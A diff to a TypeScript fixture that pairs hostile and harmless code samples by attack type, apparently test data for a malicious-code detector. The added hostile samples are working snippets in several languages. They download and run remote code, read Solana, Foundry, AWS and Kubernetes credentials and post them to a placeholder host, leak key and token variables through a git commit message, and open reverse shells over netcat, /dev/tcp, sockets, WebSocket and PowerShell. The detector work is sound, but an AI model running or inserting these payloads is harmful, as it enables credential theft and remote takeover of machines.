@@ -217,9 +217,65 @@ const ACTS: Readonly<Record<string, { readonly bad: readonly Written[]; readonly
       ['a.php', `<?php\necho base64_decode('ZWNobyAxOw==');\n`],
     ],
   },
+  'fill a file from elsewhere by its name, then run it': {
+    bad: [
+      [
+        'a.cjs',
+        `const https = require('https')\nconst fs = require('fs')\nconst cp = require('child_process')\nconst target = __dirname + '/x.cjs'\nhttps\n  .get({ host: 'files.mesa-ledger.invalid' }, (res) => {\n    const f = fs.createWriteStream(target)\n    res.pipe(f)\n    f.on('finish', () => cp.spawn(process.execPath, [target]))\n  })\n`,
+      ],
+    ],
+    good: [
+      [
+        'a.cjs',
+        `const fs = require('fs')\nconst cp = require('child_process')\nconst f = fs.createWriteStream('log.txt')\nconst p = cp.spawn('ls', ['-l'])\np.stdout.pipe(f)\n`,
+      ],
+    ],
+  },
+  'send stores of keys that a loop reads': {
+    bad: [
+      [
+        'a.ts',
+        `import { readFile } from 'node:fs/promises'\nimport { homedir } from 'node:os'\nimport { join } from 'node:path'\nconst where = ['.config/solana/id.json', '.foundry/keystores/default']\nconst out = {}\nfor (const w of where) out[w] = await readFile(join(homedir(), w), 'utf8')\nawait fetch('${H}/in', { method: 'POST', body: JSON.stringify(out) })\n`,
+      ],
+      [
+        'a.py',
+        `import configparser, os, requests\nc = configparser.ConfigParser()\nc.read(os.path.expanduser("~/.aws/credentials"))\nrequests.post("${H}/in", json={s: dict(c[s]) for s in c.sections()})\n`,
+      ],
+      [
+        'a.go',
+        `package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tvar b bytes.Buffer\n\tfor _, p := range []string{filepath.Join(home, ".kube", "config")} {\n\t\traw, _ := os.ReadFile(p)\n\t\tb.Write(raw)\n\t}\n\thttp.Post("${H}/in", "text/plain", &b)\n}\n`,
+      ],
+      ['a.sh', `ctx=$(env | grep -E '_KEY|_TOKEN' | base64)\ngit commit -m "build" -m "Context: $ctx"\n`],
+    ],
+    good: [
+      [
+        'a.ts',
+        `import { readFile } from 'node:fs/promises'\nfor (const w of ['a.md', 'b.md']) console.log(await readFile(w, 'utf8'))\n`,
+      ],
+      ['a.py', `import configparser\nc = configparser.ConfigParser()\nc.read("settings.ini")\nprint(c.sections())\n`],
+      ['a.sh', `git commit -m "build at $(date)"\n`],
+    ],
+  },
   'connect a shell to elsewhere': {
     bad: [
       ['a.sh', `nc -c "/bin/bash -i" files.mesa-ledger.invalid 4444\n`],
+      ['b.sh', `exec 7<>/dev/tcp/files.mesa-ledger.invalid/4444\nwhile read -r l <&7; do eval "$l" >&7; done\n`],
+      [
+        'b.py',
+        `import os\nm = __import__\nk = m("socket").create_connection(("files.mesa-ledger.invalid", 4444))\nlist(map(lambda n: os.dup2(k.fileno(), n), range(3)))\nm("pty").spawn("sh")\n`,
+      ],
+      [
+        'c.mjs',
+        `const [n, cp] = ['net', 'child_' + 'process'].map(require)\nconst s = n.connect({ port: 4444, host: 'files.mesa-ledger.invalid' })\ns.on('connect', () => {\n  const k = cp.spawn('sh', ['-i'])\n  s.pipe(k.stdin)\n  k.stdout.pipe(s)\n})\n`,
+      ],
+      [
+        'd.mjs',
+        `import { execFile } from 'node:child_process'\nconst ws = new WebSocket('wss://files.mesa-ledger.invalid/u')\nws.onmessage = ({ data }) => execFile('sh', ['-c', String(data)], (e, out) => ws.send(out))\n`,
+      ],
+      [
+        'a.ps1',
+        `$c = [Net.Sockets.TcpClient]::new('files.mesa-ledger.invalid', 443)\n$r = [IO.StreamReader]::new($c.GetStream())\nwhile ($null -ne ($l = $r.ReadLine())) { & ([scriptblock]::Create($l)) }\n`,
+      ],
       [
         'a.py',
         `import socket, subprocess, os\ns = socket.socket()\ns.connect(("files.mesa-ledger.invalid", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n`,
@@ -243,6 +299,12 @@ const ACTS: Readonly<Record<string, { readonly bad: readonly Written[]; readonly
     ],
     good: [
       ['a.sh', `nc -z localhost 8545 && echo up\n`],
+      [
+        'c.mjs',
+        `import { spawn } from 'node:child_process'\nconst k = spawn('jq', ['.name'])\nprocess.stdin.pipe(k.stdin)\nk.stdout.pipe(process.stdout)\n`,
+      ],
+      ['d.mjs', `const ws = new WebSocket('ws://localhost:9000')\nws.onmessage = ({ data }) => console.log(JSON.parse(data))\n`],
+      ['a.ps1', `$c = [Net.Sockets.TcpClient]::new('localhost', 5432)\n$c.Close()\n`],
       ['a.py', `import socket\ns = socket.socket()\ns.connect(("localhost", 5432))\n`],
       [
         'a.go',
